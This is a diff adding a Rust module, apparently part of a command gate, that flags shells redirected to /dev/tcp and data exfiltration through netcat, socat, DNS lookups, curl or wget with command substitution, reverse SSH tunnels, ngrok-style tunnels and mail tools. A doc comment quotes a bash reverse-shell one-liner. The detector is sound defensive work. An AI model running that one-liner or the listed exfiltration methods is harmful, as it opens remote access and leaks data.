@@ -1,0 +1,53 @@
+//! Shells wired to the network, and data sent away.
+
+use super::Cmd;
+use super::programs::is_shell;
+use crate::parse::Arg;
+
+/// A shell whose input or output is redirected to `/dev/tcp/…` (`bash -i >& /dev/tcp/h/p 0>&1`),
+/// or `exec N<>/dev/tcp/…`.
+pub(super) fn dev_tcp_shell(c: &Cmd<'_>, dev_tcp: impl Fn(&str) -> bool) -> bool {
+    let on_socket =
+        c.writes.iter().any(|w| dev_tcp(&w.target)) || c.reads.iter().any(|r| dev_tcp(r));
+    on_socket && (is_shell(c.name) || c.name == "exec" || c.name.is_empty())
+}
+
+/// Data leaving the machine by a channel the gate cannot inspect.
+pub(super) fn exfiltrates(c: &Cmd<'_>) -> bool {
+    let subst = |a: &Arg| a.text.is_none() && (a.raw.contains("$(") || a.raw.contains('`'));
+    match c.name {
+        "nc" | "ncat" | "netcat" | "telnet" | "nc.traditional" | "nc.openbsd" => {
+            // A connection (not a scan, not a listener) carrying input.
+            !c.flag("--listen", Some('l')) && !c.flag("-z", Some('z')) && c.operands().count() >= 1
+        }
+        "socat" => c.words().any(|w| {
+            let l = w.to_ascii_uppercase();
+            (l.starts_with("TCP:")
+                || l.starts_with("TCP4:")
+                || l.starts_with("UDP:")
+                || l.starts_with("OPENSSL:")
+                || l.starts_with("SSL:"))
+                && !l.contains("LOCALHOST")
+                && !l.contains("127.0.0.1")
+        }),
+        "openssl" => c.sub() == Some("s_client") && !c.reads.is_empty(),
+        "nslookup" | "dig" | "host" | "drill" | "ping" | "ping6" | "traceroute" | "resolvectl" => {
+            c.args.iter().any(subst)
+        }
+        "curl" | "wget" | "http" | "https" | "xh" | "fetch" => c.args.iter().any(|a| {
+            subst(a) && (a.raw.contains("://") || a.raw.contains('?') || a.raw.contains('.'))
+        }),
+        "ssh" => c
+            .words()
+            .any(|w| w == "-R" || w.starts_with("-R") && w.len() > 2),
+        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "bore" | "frpc" | "tailscale" => {
+            match c.name {
+                "cloudflared" => c.has("tunnel"),
+                "tailscale" => c.has("funnel") || c.has("serve"),
+                _ => true,
+            }
+        }
+        "mail" | "mailx" | "sendmail" | "mutt" | "swaks" => true,
+        _ => false,
+    }
+}
